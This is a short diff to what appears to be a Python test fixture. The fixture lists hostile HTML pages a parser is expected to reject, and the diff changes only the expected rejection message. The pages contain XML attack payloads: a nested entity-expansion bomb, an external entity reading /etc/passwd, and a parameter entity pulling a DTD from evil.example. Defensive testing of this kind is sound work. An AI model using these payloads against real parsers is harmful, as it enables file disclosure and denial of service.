@@ -84,15 +84,15 @@ PAGES: Mapping[str, tuple[Callable[[], str], str]] = {
             '<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
             f'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>{WORDS}<p>&c;'
         ),
-        "the page's document type declares entities",
+        "the page's document type declares its own entities",
     ),
     "an entity from elsewhere": (
         lambda: f'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>{WORDS}<p>&x;',
-        "the page's document type declares entities",
+        "the page's document type declares its own entities",
     ),
     "a parameter entity from elsewhere": (
         lambda: f'<!DOCTYPE html [<!ENTITY % x SYSTEM "//evil.example/x.dtd"> %x;]>{WORDS}',
-        "the page's document type declares entities",
+        "the page's document type declares its own entities",
     ),
 }
 
